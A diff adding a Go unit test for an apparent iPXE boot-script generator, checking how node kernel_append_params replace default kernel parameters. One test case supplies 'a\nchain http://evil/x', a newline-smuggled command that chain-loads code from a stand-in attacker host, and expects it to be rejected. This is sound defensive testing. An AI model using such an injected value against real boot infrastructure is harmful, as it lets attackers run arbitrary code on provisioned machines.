@@ -149,3 +149,51 @@ func TestFirmwareRoute(t *testing.T) {
 		t.Fatalf("GET firmware/snponly.efi = %d %q", rec.Code, rec.Body.String())
 	}
 }
+
+// TestKernelAppendParams: a node's kernel_append_params replace the
+// configured defaults, instance_info before driver_info as in Ironic, with
+// %default% standing for the defaults; a value that is not a string or
+// holds a control character fails the script instead of breaking it.
+func TestKernelAppendParams(t *testing.T) {
+	h, err := New(Config{Nodes: nodes{}, APIURL: "http://10.0.0.1:6385", DeployKernel: "/k", DeployRamdisk: "/r",
+		KernelParams: []string{"nofb", "vga=normal"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	const mac = "52:54:00:12:34:56"
+	for _, c := range []struct {
+		name                   string
+		instanceInfo, drvInfo  map[string]any
+		want, notWant, wantErr string
+	}{
+		{name: "defaults", want: " text nofb vga=normal ipa-api-url="},
+		{name: "driver_info replaces", drvInfo: map[string]any{"kernel_append_params": "console=ttyS0"},
+			want: " text console=ttyS0 ipa-api-url=", notWant: "nofb"},
+		{name: "%default% kept", drvInfo: map[string]any{"kernel_append_params": "%default%  console=ttyS0,115200"},
+			want: " text nofb vga=normal console=ttyS0,115200 ipa-api-url="},
+		{name: "instance_info first", instanceInfo: map[string]any{"kernel_append_params": "quiet"},
+			drvInfo: map[string]any{"kernel_append_params": "console=ttyS0"}, want: " text quiet ipa-api-url=", notWant: "ttyS0"},
+		{name: "null skipped", instanceInfo: map[string]any{"kernel_append_params": nil},
+			drvInfo: map[string]any{"kernel_append_params": "console=ttyS0"}, want: " text console=ttyS0 ipa-api-url="},
+		{name: "not a string", drvInfo: map[string]any{"kernel_append_params": 42.0}, wantErr: "not a string"},
+		{name: "newline", drvInfo: map[string]any{"kernel_append_params": "a\nchain http://evil/x"}, wantErr: "control characters"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			n := &store.Node{UUID: "6a5a3c8e-1d2b-4f6e-9a0c-2b7d8e9f0a11", ProvisionState: statemachine.DeployWait,
+				InstanceInfo: c.instanceInfo, DriverInfo: c.drvInfo}
+			s, err := h.Script(n, mac, "http://10.0.0.1:6385/boot")
+			if c.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), c.wantErr) {
+					t.Fatalf("Script = %q, %v; want an error about %s", s, err, c.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !strings.Contains(s, c.want) || (c.notWant != "" && strings.Contains(s, c.notWant)) {
+				t.Fatalf("script lacks %q (or has %q):\n%s", c.want, c.notWant, s)
+			}
+		})
+	}
+}
